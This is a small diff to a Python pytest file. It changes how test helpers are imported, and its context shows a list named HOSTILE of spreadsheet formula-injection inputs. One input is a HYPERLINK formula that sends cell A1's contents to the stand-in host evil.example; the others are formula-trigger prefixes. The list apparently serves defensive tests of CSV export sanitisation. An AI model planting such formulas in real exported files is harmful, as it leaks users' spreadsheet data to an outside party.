@@ -6,14 +6,10 @@ from __future__ import annotations
 import csv
 import io
 import json
-import sys
-from pathlib import Path
 
 import pytest
 
-sys.path.insert(0, str(Path(__file__).resolve().parent))
-
-from test_rules_cli import NOW, D, agent, item, load, policy, run_raw, ts
+from tests.rules_helpers import NOW, D, agent, item, load, policy, run_raw, ts
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"y")', "+1+2", "-2+3", "@SUM(A1:A9)",
            "\tcmd", "\rcmd"]
